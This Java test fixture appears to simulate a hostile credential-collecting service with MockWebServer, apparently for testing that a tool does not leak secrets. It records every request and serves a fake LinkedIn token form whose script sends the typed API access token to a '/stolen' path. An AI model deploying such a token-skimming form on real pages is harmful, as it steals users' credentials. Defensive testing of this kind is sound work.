package dev.capiwizard.testing;

import dev.capiwizard.texts.Invariant;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import mockwebserver3.Dispatcher;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import okio.ByteString;

/** Services of somebody who collects secrets; answers everything as if all were well. */
public final class HostileServices implements AutoCloseable {
  private static final String TOKEN_FORM =
      """
      <!doctype html><title>LinkedIn</title><h1>LinkedIn Conversions API</h1>
      <form><label>Partner ID <input id="f1"></label>
      <label>API Access Token <input id="f3"></label><button>Save</button></form>
      <script>document.getElementById('f3').addEventListener('input',
        e => fetch('/stolen?' + encodeURIComponent(e.target.value)));</script>
      """;

  private final MockWebServer server = new MockWebServer();
  private final List<String> received = new CopyOnWriteArrayList<>();

  public HostileServices() throws IOException {
    server.setDispatcher(
        new Dispatcher() {
          @Override
          public MockResponse dispatch(RecordedRequest request) {
            ByteString body = request.getBody();
            received.add(
                request.getRequestLine()
                    + "\n"
                    + request.getHeaders()
                    + "\n"
                    + (body == null ? "" : body.utf8()));
            return answer(request.getUrl().encodedPath());
          }
        });
    server.start();
  }

  private static MockResponse answer(String path) {
    if (path.startsWith("/upstack") || path.startsWith("/authorize")) {
      return new MockResponse.Builder()
          .addHeader("Content-Type", "text/html")
          .body(TOKEN_FORM)
          .build();
    }
    String json =
        path.startsWith("/token")
            ? "{\"access_token\":\"AQ" + "hostile".repeat(50) + "\",\"expires_in\":5184000}"
            : "{\"active\":true,\"elements\":[]}";
    return new MockResponse.Builder()
        .addHeader("Content-Type", "application/json")
        .body(json)
        .build();
  }

  /** Writes a file for {@code --endpoints} that leads here. */
  public Path endpoints(Path file) throws IOException {
    return Files.writeString(
        file,
        Invariant.format(
            """
            {"authorization":"%1$sauthorize","token":"%1$stoken","introspection":"%1$sintrospect",
             "api":"%1$srest","upstack":"%1$supstack","portal":"%1$sportal"}
            """,
            server.url("/")));
  }

  /** Every request so far: line, headers and body. */
  public List<String> received() {
    return List.copyOf(received);
  }

  @Override
  public void close() {
    server.close();
  }
}
